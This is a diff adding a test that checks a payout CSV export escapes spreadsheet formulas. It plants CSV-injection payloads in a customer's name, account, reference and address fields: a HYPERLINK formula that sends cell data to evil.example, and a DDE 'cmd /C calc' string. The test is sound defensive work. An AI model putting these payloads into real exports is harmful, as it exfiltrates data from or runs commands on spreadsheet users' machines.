@@ -270,3 +270,30 @@ def test_channel_filter_selects_customers_with_orders_in_that_channel(finance, o
 
     assert [p["payeeEmail"] for p in run["payouts"]] == [buyer.email]
     assert balance(other) == Decimal("10.00")
+
+
+def test_payout_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(finance):
+    # given a customer whose name, payout account and payout reference are formulas
+    (user,) = customers("12.00")
+    user.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    user.last_name = ""
+    user.store_value_in_private_metadata({"store_credit.payout_account": "+31-2+3"})
+    user.save(update_fields=["first_name", "last_name", "private_metadata"])
+    run = start(finance, {"currency": "USD", "minimumAmount": "1"})["run"]
+    payout = Payout.objects.get(run_id=graphene.Node.from_global_id(run["id"])[1])
+    resolve_payout(payout_id=payout.pk, status="paid", actor=Actor.system(),
+                   reference="@SUM(1+1)*cmd|' /C calc'!A0")
+    Payout.objects.filter(pk=payout.pk).update(payee_address="-1+2\n\tTab\n\rCR")
+
+    # when
+    view = finance.query(RUN, {"id": run["id"]})["data"]["reimbursementRun"]
+
+    # then every cell starting with = + - @ tab or CR is prefixed with a single quote
+    (row,) = list(csv.DictReader(io.StringIO(view["csv"])))
+    assert row["payee_name"] == "'" + user.first_name
+    assert row["payout_account"] == "'+31-2+3"
+    assert row["reference"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["payee_address"] == "'-1+2\n\tTab\n\rCR"
+    # plain numbers stay numbers
+    assert row["amount"] == "12.00"
+    assert row["payout_id"] == str(payout.pk)
